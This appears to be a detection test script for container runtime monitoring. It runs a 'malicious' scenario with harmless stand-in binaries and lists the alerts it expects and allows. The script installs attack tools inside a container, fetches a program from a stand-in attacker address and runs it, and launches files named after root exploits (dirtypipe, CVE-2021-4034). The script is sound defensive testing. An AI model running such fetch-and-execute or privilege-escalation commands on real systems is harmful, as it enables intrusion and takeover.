# tools-brought-along: in a running container packages are installed, a program is fetched and run, and a known hole is tried for root.
# shows: package managers in a container, a file written by the fetching tool and started, names of exploits
# outcome: programs of these names that install and break nothing
# label: malicious
# expects: [attack-tool-installed, package-manager-run-in-container, downloaded-program-run, privilege-exploit-run]
# allows: [engine-socket-connected, host-namespaces-shared, command-executed-in-container, shell-opened-in-container, files-copied-with-engine, remote-script-piped-to-interpreter, downloaded-program-run, package-manager-run-in-container, container-surroundings-explored, script-from-odd-address-run, program-run-from-hidden-folder, program-fetched-from-odd-address]
prepare() {
    . /lab/stand_ins.sh
    outside 203.0.113.77; mkdir -p /srv/www; stand_in /srv/www/k; cp /srv/www/k /srv/lab/worker
    serve /srv/www 8081
    image_from shop/feed:4 sbin/apk=/srv/lab/worker usr/bin/apt-get=/srv/lab/worker /usr/bin/curl tmp/dirtypipe=/srv/lab/worker tmp/CVE-2021-4034=/srv/lab/worker
}
act() {
    docker run -d --name feed --network host shop/feed:4 sleep 60
    if dev; then
        docker exec feed apk add --no-cache curl masscan
        docker exec feed sh -c 'curl -s -o /tmp/k http://203.0.113.77:8081/k; chmod +x /tmp/k; /tmp/k -d'
        docker exec feed /tmp/dirtypipe /bin/su
    else
        docker exec feed apt-get install -y hydra tor
        docker exec feed wget -q -O /tmp/u http://203.0.113.77:8081/k
        docker exec feed chmod 755 /tmp/u
        docker exec feed /tmp/u -d
        docker exec feed sh -c 'cd /tmp && ./CVE-2021-4034'
    fi
    docker rm -f feed
    true
}
restore() { . /lab/stand_ins.sh; answers_stop; docker rmi shop/feed:4; }
